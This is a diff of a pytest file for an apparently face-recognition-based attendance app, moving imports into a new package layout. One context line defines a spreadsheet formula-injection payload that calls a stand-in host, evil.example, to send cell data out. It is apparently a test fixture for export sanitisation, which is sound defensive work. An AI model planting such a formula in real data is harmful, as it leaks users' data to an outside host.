@@ -13,13 +13,13 @@ from pathlib import Path
 import pytest
 import redis
 
-from common.blobstore import open_blob_store
-from common.records import open_records
-from common.schemas import AttendanceRecord
-from common.settings import Settings
+from attendance.stores.blob import open_blob_store
+from attendance.stores.records import open_records
+from attendance.domain.schemas import AttendanceRecord
+from attendance.config.settings import Settings
 from tests import tokens
 from tests.conftest import redis_url_for
-from web.app import create_app
+from attendance.web.app import create_app
 
 REDIS_DB = 13
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
@@ -121,7 +121,7 @@ def room1_teacher() -> dict:
 
 def test_a_class_limited_teacher_sees_only_their_classes_jobs_and_photos(client, settings,
                                                                         blobs):
-    from common.jobs import JobStore
+    from attendance.stores.jobs import JobStore
 
     jobs = JobStore.from_url(settings.redis_url, 60)
     theirs, other, no_class = "a1" * 16, "b2" * 16, "c3" * 16
@@ -145,8 +145,8 @@ def test_a_class_limited_teacher_sees_only_their_classes_jobs_and_photos(client,
 
 def test_a_class_limited_teacher_sees_only_their_classes_of_a_student_and_the_model(
         client, records, blobs, settings):
-    from common.gallery import GalleryRepository
-    from common.pipeline import pipeline_id
+    from attendance.stores.gallery import GalleryRepository
+    from attendance.services.pipeline import pipeline_id
 
     records.upsert_student("ann", "Ann", "room-1")
     records.upsert_student("ann", "Ann", "room-2")
@@ -201,7 +201,7 @@ def test_enrolling_a_taken_id_is_refused_and_stores_nothing(client, records, blo
 
 
 def test_adding_photos_is_its_own_request(client, records, settings, blobs, faces_dir):
-    from common.jobs import JobStore
+    from attendance.stores.jobs import JobStore
 
     response = client.post("/api/v1/students/nobody/photos",
                            data={"photos": face_upload(faces_dir)},
